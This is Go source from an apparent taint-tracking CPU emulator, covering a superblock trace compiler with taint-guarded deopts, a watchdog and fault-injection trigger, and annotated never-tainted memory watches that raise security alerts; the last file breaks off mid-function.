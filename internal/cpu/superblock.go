package cpu

import (
	"math/bits"

	"repro/internal/isa"
	"repro/internal/taint"
)

// Superblock compilation: a trace tier above the basic-block fast path.
//
// A superblock fuses a hot cyclic trace of statically-clean basic blocks
// into one straight-line specialized form with no per-instruction
// dispatch through the decIns kind switch. The taint checks that
// StepBlock performs per instruction are hoisted into a single entry
// guard (every register the trace reads before writing must be
// untainted), which a structural invariant then carries through the
// whole trace: every in-trace write deposits taint.None, and a load
// that observes a tainted value side-exits immediately after retiring,
// so no instruction inside a superblock ever sees a tainted operand.
// Stats, pipeline, and clean-skip accounting collapse to per-iteration
// constants materialized once at exit; the only per-execution dynamic
// costs are the handful of guards that StepBlock also pays on its clean
// path (compare/branch home probes, store range checks) plus coverage
// hits when a map is attached.
//
// Every assumption has a deopt: a violated guard exits before the
// offending instruction with the machine state byte-identical to what
// the block path would have at that pc, and the block path re-executes
// the instruction with its full check set. Probes, profiling, cache
// buses, and the reference interpreter never see superblocks at all.
const (
	// sbHotThreshold is the number of block-path dispatches of one entry
	// pc before a superblock is attempted there.
	sbHotThreshold = 64
	// sbMaxOps bounds one trace, in instructions.
	sbMaxOps = 256
	// sbMinOps rejects degenerate traces not worth the entry guard.
	sbMinOps = 2
	// sbMaxBadEntries retires a superblock whose entry guard keeps
	// failing or whose first instruction keeps deoptimizing, so a loop
	// that is structurally fusable but dynamically tainted stops paying
	// the guard on every dispatch.
	sbMaxBadEntries = 64
)

// Last-invalidation tags for CPU.sbInval: when dispatch finds a compiled
// trace no longer live, the tag says which event killed it so the deopt
// lands in the right Stats reason bucket. Self-modify is the zero value —
// text stores and plain block rebuilds are the untagged default cause.
const (
	sbInvalSelfModify = iota
	sbInvalProbe
	sbInvalInject
)

// Specialized op codes. Each ALU form gets its own code so the exec loop
// is a single dense switch (a jump table), not a dispatch through the
// shared decIns datapath switch plus a second fop switch.
const (
	sbNOP = iota
	sbLUI
	sbADDrr
	sbADDri
	sbSUBrr
	sbANDrr
	sbANDri
	sbORrr
	sbORri
	sbXORrr
	sbXORri
	sbNORrr
	sbMULrr
	sbDIVrr
	sbDIVUrr
	sbREMrr
	sbREMUrr
	sbSLLri
	sbSLLrr
	sbSRLri
	sbSRLrr
	sbSRAri
	sbSRArr
	sbSLTrr
	sbSLTri
	sbSLTUrr
	sbSLTUri
	sbLW
	sbLB
	sbLBU
	sbLH
	sbLHU
	sbSW
	sbSB
	sbSH
	sbBEQ
	sbBNE
	sbBLEZ
	sbBGTZ
	sbBLTZ
	sbBGEZ
	sbJMP
)

// sbOp flags.
const (
	// sbfExpTaken: the trace continues on the taken direction of this
	// branch; the other direction is a side exit.
	sbfExpTaken = 1 << iota
	// sbfLoop: this control op closes the trace back to its entry pc —
	// the iteration boundary.
	sbfLoop
)

// sbOp is one specialized instruction of a superblock.
type sbOp struct {
	code  uint8
	flags uint8
	dst   uint8
	a     uint8 // first operand register (addr base for memory ops)
	b     uint8 // second operand register (store value, branch Rt)
	exit  uint16 // pre-op deopt exit record
	exitT uint16 // post-op side exit record (tainted load, branch other way)
	imm   uint32
	pc    uint32
	tgt   uint32 // branch/jump taken target
	homes uint32 // registers whose memory homes must probe clean
}

// sbExit is one precomputed exit point: the partial stats/pipeline
// contribution of the current iteration up to (pre-op exits) or through
// (post-op exits) the exiting instruction, plus the resume pc and the
// load-use hazard state at that boundary. exits[0] is always the
// iteration boundary itself (zero partials, resume at the entry pc).
type sbExit struct {
	done, clean, static     uint64
	loads, stores, branches uint64
	cyc, stalls, flush      uint64
	loadDst                 isa.Register
	pc                      uint32
}

// sbPart pins one constituent basic block: the superblock is live only
// while every part is still the cached, valid block at its index, which
// makes every existing invalidation path (self-modifying stores, probe
// registration, fact drops, fault injection) invalidate superblocks
// with no extra hooks.
type sbPart struct {
	idx uint32
	b   *decBlock
}

// superblock is one compiled trace, keyed by the block index of its
// entry pc.
type superblock struct {
	ops         []sbOp
	exits       []sbExit
	iter        sbExit // whole-iteration constants (pc/loadDst unused)
	parts       []sbPart
	liveIn      []isa.Register // read-before-write set for the entry guard
	entryPC     uint32
	hz0a, hz0b  uint8 // first op's hazard sources (entry-edge stall check)
	branchGuard bool  // prop.BranchUntaint() at build time
	badEntries  uint32
}

// sbUnfusable marks an entry pc whose trace cannot be fused, so the
// dispatch stops re-attempting the build.
var sbUnfusable = &superblock{}

// SetSuperblocks enables or disables the superblock tier (enabled by
// default). Disabling drops all compiled superblocks; the basic-block
// fast path is unaffected.
func (c *CPU) SetSuperblocks(on bool) {
	c.sbOff = !on
	if !on {
		c.sblocks, c.sbHeat = nil, nil
	}
}

// flushSuperblocks drops every compiled superblock but keeps the heat
// counters, so hot entries recompile on their next dispatch.
func (c *CPU) flushSuperblocks() {
	for i := range c.sblocks {
		c.sblocks[i] = nil
	}
}

// live reports whether every constituent block is still the cached,
// valid block at its index.
func (sb *superblock) live(c *CPU) bool {
	for i := range sb.parts {
		p := &sb.parts[i]
		if c.blocks[p.idx] != p.b || !p.b.valid {
			return false
		}
	}
	return true
}

// sbEntryClean is the hoisted taint check: every register the trace
// reads before writing must be untainted.
func (c *CPU) sbEntryClean(sb *superblock) bool {
	var t taint.Vec
	for _, r := range sb.liveIn {
		t |= c.regTaint[r]
	}
	return t == taint.None
}

// sbHomesDirty reports whether any live register home in mask has a
// tainted byte — the condition under which a compare/branch untaint
// write-through would be observable and the superblock must deopt.
func (c *CPU) sbHomesDirty(mask uint32) bool {
	for m := mask & c.homesMask; m != 0; m &= m - 1 {
		h := &c.regHomes[bits.TrailingZeros32(m)]
		if c.flatMem.SpanTainted(h.addr, int(h.width)) {
			return true
		}
	}
	return false
}

// sbALUCode maps a predecoded ALU/shift/compare instruction to its
// specialized code.
func sbALUCode(d *decIns) (uint8, bool) {
	if d.aluMode == aluLUI {
		return sbLUI, true
	}
	ri := d.aluMode == aluImm
	switch d.fop {
	case fopADD:
		if ri {
			return sbADDri, true
		}
		return sbADDrr, true
	case fopSUB:
		return sbSUBrr, !ri
	case fopAND:
		if ri {
			return sbANDri, true
		}
		return sbANDrr, true
	case fopOR:
		if ri {
			return sbORri, true
		}
		return sbORrr, true
	case fopXOR:
		if ri {
			return sbXORri, true
		}
		return sbXORrr, true
	case fopNOR:
		return sbNORrr, !ri
	case fopMUL:
		return sbMULrr, !ri
	case fopDIV:
		return sbDIVrr, !ri
	case fopDIVU:
		return sbDIVUrr, !ri
	case fopREM:
		return sbREMrr, !ri
	case fopREMU:
		return sbREMUrr, !ri
	case fopSLT:
		if ri {
			return sbSLTri, true
		}
		return sbSLTrr, true
	case fopSLTU:
		if ri {
			return sbSLTUri, true
		}
		return sbSLTUrr, true
	case fopSLL:
		if ri {
			return sbSLLri, true
		}
		return sbSLLrr, true
	case fopSRL:
		if ri {
			return sbSRLri, true
		}
		return sbSRLrr, true
	case fopSRA:
		if ri {
			return sbSRAri, true
		}
		return sbSRArr, true
	}
	return 0, false
}

// sbMemCode maps a predecoded load/store to its specialized code.
func sbMemCode(d *decIns) (uint8, bool) {
	switch d.fop {
	case fopLW:
		return sbLW, true
	case fopLB:
		return sbLB, true
	case fopLBU:
		return sbLBU, true
	case fopLH:
		return sbLH, true
	case fopLHU:
		return sbLHU, true
	case fopSW:
		return sbSW, true
	case fopSB:
		return sbSB, true
	case fopSH:
		return sbSH, true
	}
	return 0, false
}

// sbBranchCode maps a branch opcode to its specialized code.
func sbBranchCode(op isa.Opcode) (uint8, bool) {
	switch op {
	case isa.OpBEQ:
		return sbBEQ, true
	case isa.OpBNE:
		return sbBNE, true
	case isa.OpBLEZ:
		return sbBLEZ, true
	case isa.OpBGTZ:
		return sbBGTZ, true
	case isa.OpBLTZ:
		return sbBLTZ, true
	case isa.OpBGEZ:
		return sbBGEZ, true
	}
	return 0, false
}

// buildSuperblock compiles the trace entered at block index idx, or
// returns sbUnfusable. The trace follows fall-through edges, expected
// branch directions (a conditional whose target is the entry pc is the
// loop-back, expected taken; any other conditional is expected not
// taken), and unconditional in-text jumps, and must close back to the
// entry pc; it ends unfusable at calls, register jumps, traps,
// undecodable words, internal revisits, or sbMaxOps.
func (c *CPU) buildSuperblock(idx uint32) *superblock {
	// Near-edge text forces per-op nextPC checks in StepBlock
	// (forceTail); keep superblocks out of that regime entirely.
	if c.textBase < nullPage || c.textEnd > ^uint32(0)-uint32(maxBlockLen)*4 {
		return sbUnfusable
	}
	entryPC := c.textBase + idx*4
	sb := &superblock{entryPC: entryPC, branchGuard: c.prop.BranchUntaint()}
	sb.exits = append(sb.exits, sbExit{pc: entryPC, loadDst: isa.RegZero})
	var (
		run         sbExit // pre-op running totals at the current position
		writtenMask uint32
		liveMask    uint32
		lastLoad    = isa.RegZero
		visited     = map[uint32]bool{}
		closed      bool
	)
	addExit := func(e sbExit) uint16 {
		sb.exits = append(sb.exits, e)
		return uint16(len(sb.exits) - 1)
	}
	read := func(r isa.Register) {
		if r != isa.RegZero && writtenMask&(1<<r) == 0 && liveMask&(1<<r) == 0 {
			liveMask |= 1 << r
			sb.liveIn = append(sb.liveIn, r)
		}
	}
	wrote := func(r isa.Register) {
		if r != isa.RegZero {
			writtenMask |= 1 << r
		}
	}
	cur := idx
	for !closed {
		if visited[cur] {
			return sbUnfusable // revisit that is not the entry: no single loop head
		}
		visited[cur] = true
		b := c.blocks[cur]
		if b == nil || !b.valid {
			if b = c.buildBlock(cur); b == nil {
				return sbUnfusable
			}
			c.blocks[cur] = b
			c.stats.BlockMisses++
		}
		sb.parts = append(sb.parts, sbPart{idx: cur, b: b})
		pc := c.textBase + cur*4
		next := cur + uint32(len(b.ins))
		for i := range b.ins {
			d := &b.ins[i]
			if len(sb.ops) >= sbMaxOps {
				return sbUnfusable
			}
			// The retire-stage hazard check reads the pipeline's loadDst
			// after the current instruction's memory effect has updated
			// it: a load therefore stalls iff it reads its own
			// destination (a chained pointer walk), a store never stalls,
			// and every other kind stalls on the preceding load's dst.
			var hz uint64
			switch d.kind {
			case isa.KindLoad:
				if d.dst != isa.RegZero && (d.srcA == d.dst || d.srcB == d.dst) {
					hz = 1
				}
			case isa.KindStore:
				// hz stays 0.
			default:
				if lastLoad != isa.RegZero && (d.srcA == lastLoad || d.srcB == lastLoad) {
					hz = 1
				}
				if len(sb.ops) == 0 {
					// The first op's hazard is against the pipe state at
					// entry (dynamic, charged once by runSuperblock) on the
					// first pass and against the loop-back control op (never
					// a load) on every later pass. Memory ops never see the
					// entry loadDst, so hz0a/hz0b stay zero for them.
					hz = 0
					sb.hz0a, sb.hz0b = uint8(d.srcA), uint8(d.srcB)
				}
			}
			op := sbOp{pc: pc, dst: uint8(d.dst), a: uint8(d.srcA), b: uint8(d.srcB), imm: d.imm}
			pre := run
			pre.pc = pc
			pre.loadDst = lastLoad
			ok := true
			switch d.kind {
			case isa.KindALU, isa.KindShift:
				op.code, ok = sbALUCode(d)
				read(d.srcA)
				read(d.srcB)
				run.done++
				run.clean++
				run.static += uint64(d.static & FactOperandsClean)
				run.cyc += 1 + hz
				run.stalls += hz
				wrote(d.dst)
				lastLoad = isa.RegZero
			case isa.KindCompare:
				op.code, ok = sbALUCode(d)
				read(d.srcA)
				read(d.srcB)
				op.homes = (uint32(1)<<d.srcA | uint32(1)<<d.srcB) &^ 1
				op.exit = addExit(pre)
				run.done++
				run.clean++
				run.cyc += 1 + hz
				run.stalls += hz
				wrote(d.dst)
				lastLoad = isa.RegZero
			case isa.KindLoad:
				op.code, ok = sbMemCode(d)
				read(d.srcA)
				op.exit = addExit(pre)
				st := uint64(d.static&FactAddrClean) >> 1
				post := pre
				post.done++
				post.loads++
				post.static += st
				post.cyc += 1 + hz
				post.stalls += hz
				post.loadDst = d.dst
				post.pc = pc + 4
				op.exitT = addExit(post)
				run.done++
				run.loads++
				run.static += st
				run.cyc += 1 + hz
				run.stalls += hz
				wrote(d.dst)
				lastLoad = d.dst
			case isa.KindStore:
				op.code, ok = sbMemCode(d)
				read(d.srcA)
				read(d.srcB)
				op.exit = addExit(pre)
				run.done++
				run.stores++
				run.static += uint64(d.static&FactAddrClean) >> 1
				run.cyc += 1 + hz
				run.stalls += hz
				lastLoad = isa.RegZero
			case isa.KindBranch:
				op.code, ok = sbBranchCode(d.in.Op)
				op.a, op.b = uint8(d.in.Rs), uint8(d.in.Rt)
				if sb.branchGuard {
					read(d.srcA)
					read(d.srcB)
					op.homes = (uint32(1)<<d.srcA | uint32(1)<<d.srcB) &^ 1
					op.exit = addExit(pre)
				}
				tgt := isa.BranchTarget(pc, d.in)
				op.tgt = tgt
				post := pre
				post.done++
				post.clean++
				post.branches++
				post.stalls += hz
				post.loadDst = isa.RegZero
				run.done++
				run.clean++
				run.branches++
				run.stalls += hz
				if tgt == entryPC {
					op.flags |= sbfExpTaken | sbfLoop
					post.cyc += 1 + hz // side exit: fell through, no flush
					post.pc = pc + 4
					op.exitT = addExit(post)
					run.cyc += 1 + hz + 2
					run.flush += 2
					closed = true
				} else {
					post.cyc += 1 + hz + 2 // side exit: taken
					post.flush += 2
					post.pc = tgt
					op.exitT = addExit(post)
					run.cyc += 1 + hz
				}
				lastLoad = isa.RegZero
			case isa.KindJump:
				if d.in.Op != isa.OpJ {
					ok = false
					break
				}
				tgt := isa.JumpTarget(pc, d.in)
				op.code, op.tgt = sbJMP, tgt
				run.done++
				run.cyc += 1 + hz + 2
				run.flush += 2
				lastLoad = isa.RegZero
				if tgt == entryPC {
					op.flags |= sbfLoop
					closed = true
				} else {
					if tgt < c.textBase || (tgt-c.textBase)&3 != 0 {
						return sbUnfusable
					}
					next = (tgt - c.textBase) >> 2
				}
			case isa.KindSystem:
				if d.in.Op != isa.OpNOP {
					ok = false
					break
				}
				op.code = sbNOP
				run.done++
				run.clean++
				run.cyc += 1 + hz
				run.stalls += hz
				lastLoad = isa.RegZero
			default:
				ok = false // calls, register jumps: trace ends unfused
			}
			if !ok {
				return sbUnfusable
			}
			sb.ops = append(sb.ops, op)
			pc += 4
			if closed {
				break
			}
		}
		if closed {
			break
		}
		if next >= uint32(len(c.blocks)) {
			return sbUnfusable
		}
		cur = next
	}
	if len(sb.ops) < sbMinOps {
		return sbUnfusable
	}
	sb.iter = run
	return sb
}

// sbFinish materializes iters complete iterations plus the partial exit
// record e into the machine's stats and pipeline, and returns the
// resume pc. The second result reports whether any instruction retired:
// when false the machine state is untouched (the caller must then make
// progress on the block path before re-entering this superblock).
func (c *CPU) sbFinish(sb *superblock, iters uint64, e *sbExit, entryExtra uint64) (uint32, bool) {
	it := &sb.iter
	done := iters*it.done + e.done
	if done == 0 {
		return e.pc, false
	}
	clean := iters*it.clean + e.clean
	c.stats.Instructions += done
	c.stats.CleanSkips += clean
	c.stats.TaintedSteps += done - clean
	c.stats.StaticCleanSkips += iters*it.static + e.static
	c.stats.Loads += iters*it.loads + e.loads
	c.stats.Stores += iters*it.stores + e.stores
	c.stats.Branches += iters*it.branches + e.branches
	c.stats.SuperblockInstrs += done
	c.pipe.cycles += iters*it.cyc + e.cyc + entryExtra
	c.pipe.stallCycles += iters*it.stalls + e.stalls + entryExtra
	c.pipe.flushCycles += iters*it.flush + e.flush
	c.pipe.loadDst = e.loadDst
	return e.pc, true
}

// runSuperblock executes the trace until a side exit, a deopt, or the
// instruction budget boundary. The caller has already flushed its
// batched locals (stats and pipe are exact), verified the entry guard,
// and checked that at least one full iteration fits the budget.
func (c *CPU) runSuperblock(sb *superblock, max uint64) (uint32, bool) {
	ops := sb.ops
	// The entry-edge load-use hazard: charged once if the first op ever
	// retires, mirroring StepBlock's dynamic prevDst at chain entry.
	var entryExtra uint64
	if ld := c.pipe.loadDst; ld != isa.RegZero && (uint8(ld) == sb.hz0a || uint8(ld) == sb.hz0b) {
		entryExtra = 1
	}
	iterBudget := ^uint64(0)
	if max > 0 {
		iterBudget = (max - c.stats.Instructions) / uint64(len(ops))
	}
	m := c.flatMem
	var iters uint64
	i := 0
	for {
		op := &ops[i]
		switch op.code {
		case sbNOP:
		case sbLUI:
			c.SetReg(isa.Register(op.dst), op.imm, taint.None)
		case sbADDrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]+c.regs[op.b], taint.None)
		case sbADDri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]+op.imm, taint.None)
		case sbSUBrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]-c.regs[op.b], taint.None)
		case sbANDrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]&c.regs[op.b], taint.None)
		case sbANDri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]&op.imm, taint.None)
		case sbORrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]|c.regs[op.b], taint.None)
		case sbORri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]|op.imm, taint.None)
		case sbXORrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]^c.regs[op.b], taint.None)
		case sbXORri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]^op.imm, taint.None)
		case sbNORrr:
			c.SetReg(isa.Register(op.dst), ^(c.regs[op.a] | c.regs[op.b]), taint.None)
		case sbMULrr:
			c.SetReg(isa.Register(op.dst), uint32(int32(c.regs[op.a])*int32(c.regs[op.b])), taint.None)
		case sbDIVrr:
			a, b := c.regs[op.a], c.regs[op.b]
			var v uint32
			switch {
			case b == 0:
				v = 0
			case int32(a) == -1<<31 && int32(b) == -1:
				v = 0x80000000
			default:
				v = uint32(int32(a) / int32(b))
			}
			c.SetReg(isa.Register(op.dst), v, taint.None)
		case sbDIVUrr:
			var v uint32
			if b := c.regs[op.b]; b != 0 {
				v = c.regs[op.a] / b
			}
			c.SetReg(isa.Register(op.dst), v, taint.None)
		case sbREMrr:
			a, b := c.regs[op.a], c.regs[op.b]
			var v uint32
			if b != 0 && !(int32(a) == -1<<31 && int32(b) == -1) {
				v = uint32(int32(a) % int32(b))
			}
			c.SetReg(isa.Register(op.dst), v, taint.None)
		case sbREMUrr:
			var v uint32
			if b := c.regs[op.b]; b != 0 {
				v = c.regs[op.a] % b
			}
			c.SetReg(isa.Register(op.dst), v, taint.None)
		case sbSLLri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]<<(op.imm&31), taint.None)
		case sbSLLrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]<<(c.regs[op.b]&31), taint.None)
		case sbSRLri:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]>>(op.imm&31), taint.None)
		case sbSRLrr:
			c.SetReg(isa.Register(op.dst), c.regs[op.a]>>(c.regs[op.b]&31), taint.None)
		case sbSRAri:
			c.SetReg(isa.Register(op.dst), uint32(int32(c.regs[op.a])>>(op.imm&31)), taint.None)
		case sbSRArr:
			c.SetReg(isa.Register(op.dst), uint32(int32(c.regs[op.a])>>(c.regs[op.b]&31)), taint.None)
		case sbSLTrr, sbSLTri, sbSLTUrr, sbSLTUri:
			// Compares untaint through live memory homes; that
			// write-through must stay unobservable or the block path
			// owns the instruction.
			if op.homes&c.homesMask != 0 && c.sbHomesDirty(op.homes) {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptProbe++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			var v uint32
			switch op.code {
			case sbSLTrr:
				if int32(c.regs[op.a]) < int32(c.regs[op.b]) {
					v = 1
				}
			case sbSLTri:
				if int32(c.regs[op.a]) < int32(op.imm) {
					v = 1
				}
			case sbSLTUrr:
				if c.regs[op.a] < c.regs[op.b] {
					v = 1
				}
			case sbSLTUri:
				if c.regs[op.a] < op.imm {
					v = 1
				}
			}
			c.SetReg(isa.Register(op.dst), v, taint.None)
		case sbLW:
			addr := c.regs[op.a] + op.imm
			if addr < nullPage || addr&3 != 0 {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptMemFault++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			w, wv := m.WordAt(addr)
			rd := isa.Register(op.dst)
			if wv != taint.None {
				// Taint birth: retire this load with its full effects,
				// then exit so the block path sees the tainted register.
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptLoadedTaint++
				c.SetReg(rd, w, wv)
				e := &sb.exits[op.exitT]
				if c.prov != nil {
					c.provLoad(rd, addr, op.pc, c.stats.Instructions+iters*sb.iter.done+e.done-1)
				}
				c.setHome(rd, addr, 4)
				return c.sbFinish(sb, iters, e, entryExtra)
			}
			c.SetReg(rd, w, taint.None)
			c.setHome(rd, addr, 4)
		case sbLB, sbLBU:
			addr := c.regs[op.a] + op.imm
			if addr < nullPage {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptMemFault++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			bb, tt := m.LoadByte(addr)
			var v uint32
			var vec taint.Vec
			if op.code == sbLB {
				v = uint32(int32(int8(bb)))
				if tt {
					vec = taint.Word
				}
			} else {
				v = uint32(bb)
				if tt {
					vec = taint.ForWidth(1)
				}
			}
			rd := isa.Register(op.dst)
			c.SetReg(rd, v, vec)
			if vec != taint.None {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptLoadedTaint++
				e := &sb.exits[op.exitT]
				if c.prov != nil {
					c.provLoad(rd, addr, op.pc, c.stats.Instructions+iters*sb.iter.done+e.done-1)
				}
				c.setHome(rd, addr, 1)
				return c.sbFinish(sb, iters, e, entryExtra)
			}
			c.setHome(rd, addr, 1)
		case sbLH, sbLHU:
			addr := c.regs[op.a] + op.imm
			if addr < nullPage || addr&1 != 0 {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptMemFault++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			h, hv := m.HalfAt(addr)
			var v uint32
			vec := hv
			if op.code == sbLH {
				v = uint32(int32(int16(h)))
				if hv.Byte(1) {
					vec = taint.Word
				}
			} else {
				v = uint32(h)
			}
			rd := isa.Register(op.dst)
			c.SetReg(rd, v, vec)
			if vec != taint.None {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptLoadedTaint++
				e := &sb.exits[op.exitT]
				if c.prov != nil {
					c.provLoad(rd, addr, op.pc, c.stats.Instructions+iters*sb.iter.done+e.done-1)
				}
				c.setHome(rd, addr, 2)
				return c.sbFinish(sb, iters, e, entryExtra)
			}
			c.setHome(rd, addr, 2)
		case sbSW:
			// addr < textEnd folds the null-page fault, the
			// self-modifying-text eviction, and text stores into one
			// deopt compare (text sits directly above the null page).
			addr := c.regs[op.a] + op.imm
			if addr&3 != 0 || addr < c.textEnd {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptSelfModify++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			m.PutWord(addr, c.regs[op.b], taint.None)
			if c.homesMask != 0 {
				c.invalidateHomes(addr, 4)
			}
		case sbSB:
			addr := c.regs[op.a] + op.imm
			if addr < c.textEnd {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptSelfModify++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			m.StoreByte(addr, byte(c.regs[op.b]), false)
			if c.homesMask != 0 {
				c.invalidateHomes(addr, 1)
			}
		case sbSH:
			addr := c.regs[op.a] + op.imm
			if addr&1 != 0 || addr < c.textEnd {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptSelfModify++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			m.PutHalf(addr, uint16(c.regs[op.b]), taint.None)
			if c.homesMask != 0 {
				c.invalidateHomes(addr, 2)
			}
		case sbBEQ, sbBNE, sbBLEZ, sbBGTZ, sbBLTZ, sbBGEZ:
			if sb.branchGuard && op.homes&c.homesMask != 0 && c.sbHomesDirty(op.homes) {
				c.stats.SuperblockDeopts++
				c.stats.SbDeoptProbe++
				return c.sbFinish(sb, iters, &sb.exits[op.exit], entryExtra)
			}
			var taken bool
			switch op.code {
			case sbBEQ:
				taken = c.regs[op.a] == c.regs[op.b]
			case sbBNE:
				taken = c.regs[op.a] != c.regs[op.b]
			case sbBLEZ:
				taken = int32(c.regs[op.a]) <= 0
			case sbBGTZ:
				taken = int32(c.regs[op.a]) > 0
			case sbBLTZ:
				taken = int32(c.regs[op.a]) < 0
			case sbBGEZ:
				taken = int32(c.regs[op.a]) >= 0
			}
			if c.cov != nil {
				to := op.pc + 4
				if taken {
					to = op.tgt
				}
				c.cov.hit(op.pc, to)
			}
			if taken != (op.flags&sbfExpTaken != 0) {
				return c.sbFinish(sb, iters, &sb.exits[op.exitT], entryExtra)
			}
			if op.flags&sbfLoop != 0 {
				iters++
				if iters >= iterBudget {
					return c.sbFinish(sb, iters, &sb.exits[0], entryExtra)
				}
				i = 0
				continue
			}
		case sbJMP:
			if c.cov != nil {
				c.cov.hit(op.pc, op.tgt)
			}
			if op.flags&sbfLoop != 0 {
				iters++
				if iters >= iterBudget {
					return c.sbFinish(sb, iters, &sb.exits[0], entryExtra)
				}
				i = 0
				continue
			}
		}
		i++
	}
}
