package cpu

import (
	"fmt"

	"repro/internal/mem"
)

// StepBudgetError is the watchdog fault returned by Run/RunFast when the
// guest reaches its retired-instruction budget without halting, blocking,
// alerting, or faulting. It is the machine's defense against runaway
// guests (infinite loops, wedged protocol dialogues): a campaign fork that
// trips it is classified as a Timeout rather than stalling the host. The
// trip point is deterministic — Steps and PC are identical under the
// reference interpreter, the block fast path, and any fork of the same
// snapshot.
type StepBudgetError struct {
	PC    uint32
	Steps uint64 // instructions retired when the budget tripped
}

// Error implements the error interface.
func (e *StepBudgetError) Error() string {
	return fmt.Sprintf("machine fault at %#08x: instruction budget exhausted (%d retired)", e.PC, e.Steps)
}

// GuestFault is a host panic captured at the machine boundary: a malformed
// image, an out-of-range access in host-side machinery, or a library bug
// tickled by a fault-injection run. Run/RunFast recover it into an error
// so no guest — however corrupted — can take the host process down.
type GuestFault struct {
	PC     uint32
	Reason string
}

// Error implements the error interface.
func (e *GuestFault) Error() string {
	return fmt.Sprintf("guest fault at %#08x: recovered host panic: %s", e.PC, e.Reason)
}

// recoverGuestFault converts a panic escaping a run loop into a structured
// error: a guest memory-limit trip surfaces as the *mem.LimitError the
// memory raised; anything else becomes a *GuestFault. Stats batched in
// StepBlock locals at the moment of the panic are lost (the panic unwinds
// past the flush), so counters on this path are best-effort.
func (c *CPU) recoverGuestFault(err *error) {
	r := recover()
	if r == nil {
		return
	}
	if le, ok := r.(*mem.LimitError); ok {
		*err = le
		return
	}
	*err = &GuestFault{PC: c.pc, Reason: fmt.Sprint(r)}
}

// InjectAt arms fn to run exactly once, at the first point where the
// retired-instruction count is at least n — between instructions, with the
// architectural state fully consistent. It is the trigger mechanism of the
// fault-injection engine (internal/fault): the injector flips taint bits,
// corrupts words, or garbles pending input, and execution continues.
//
// The trigger is honored identically by Run and RunFast: the fast path
// truncates its block chains at the trigger count, so an injection lands
// at the same instruction boundary as under the reference interpreter.
// Arming drops the static analyzer's facts and the predecoded blocks
// carrying them: an injector may taint state the analysis proved clean,
// and the proof must not outlive it.
func (c *CPU) InjectAt(n uint64, fn func(*CPU)) {
	c.injectAt, c.injectFn = n, fn
	c.staticFacts = nil
	c.sbInval = sbInvalInject
	c.flushBlocks()
}

// fireInjection runs and disarms a due injection callback. Split from the
// run loops so their hot paths only pay a nil check.
func (c *CPU) fireInjection() {
	fn := c.injectFn
	c.injectFn = nil
	fn(c)
}

// injectionDue reports whether an armed injection has reached its trigger.
func (c *CPU) injectionDue() bool {
	return c.injectFn != nil && c.stats.Instructions >= c.injectAt
}
