package cpu

import (
	"fmt"

	"repro/internal/isa"
	"repro/internal/taint"
)

// TaintWatch is an annotated memory region that must never become tainted
// — the extension sketched at the end of the paper's Section 5.3: "ask the
// programmer to annotate important data structures that should never be
// tainted... whenever an annotated structure becomes tainted, an alert is
// raised." Watches trade the architecture's transparency for coverage of
// the Table 4 false negatives (e.g. the authentication flag).
type TaintWatch struct {
	Addr uint32
	Len  uint32
	Name string
}

// WatchViolation is the security exception raised when tainted data is
// written into an annotated region.
type WatchViolation struct {
	Watch  TaintWatch
	PC     uint32
	Addr   uint32 // the tainted byte's address
	Symbol string
	SymOff uint32
}

// Error implements the error interface.
func (w *WatchViolation) Error() string {
	loc := ""
	if w.Symbol != "" {
		loc = fmt.Sprintf(" in %s+%#x", w.Symbol, w.SymOff)
	}
	return fmt.Sprintf("security alert (annotated-region-tainted): %x: tainted write to %q at %#08x%s",
		w.PC, w.Watch.Name, w.Addr, loc)
}

// AddTaintWatch annotates [addr, addr+n) as never-tainted. Guests register
// watches through the SYS_ANNOTATE system call; hosts may add them
// directly.
func (c *CPU) AddTaintWatch(addr, n uint32, name string) {
	c.watches = append(c.watches, TaintWatch{Addr: addr, Len: n, Name: name})
}

// TaintWatches returns the registered annotations.
func (c *CPU) TaintWatches() []TaintWatch {
	out := make([]TaintWatch, len(c.watches))
	copy(out, c.watches)
	return out
}

// checkWatches raises a violation when a store writes tainted bytes into
// an annotated region. width is the store width; vec the store's taint.
func (c *CPU) checkWatches(addr uint32, width int, vec taint.Vec) error {
	for _, w := range c.watches {
		for i := 0; i < width; i++ {
			a := addr + uint32(i)
			if a >= w.Addr && a < w.Addr+w.Len && vec.Byte(i) {
				sym, off := c.symbolFor(c.pc)
				c.stats.Alerts++
				return &WatchViolation{
					Watch: w, PC: c.pc, Addr: a, Symbol: sym, SymOff: off,
				}
			}
		}
	}
	return nil
}

// CheckHostTaintWrite lets the kernel consult the watches on its copy-out
// path (input landing directly inside an annotated region is equally a
// violation). All n bytes are tainted. Returns nil when no watch is
// registered or none is hit.
func (c *CPU) CheckHostTaintWrite(addr uint32, n int) error {
	if len(c.watches) == 0 {
		return nil
	}
	for _, w := range c.watches {
		for i := 0; i < n; i++ {
			a := addr + uint32(i)
			if a >= w.Addr && a < w.Addr+w.Len {
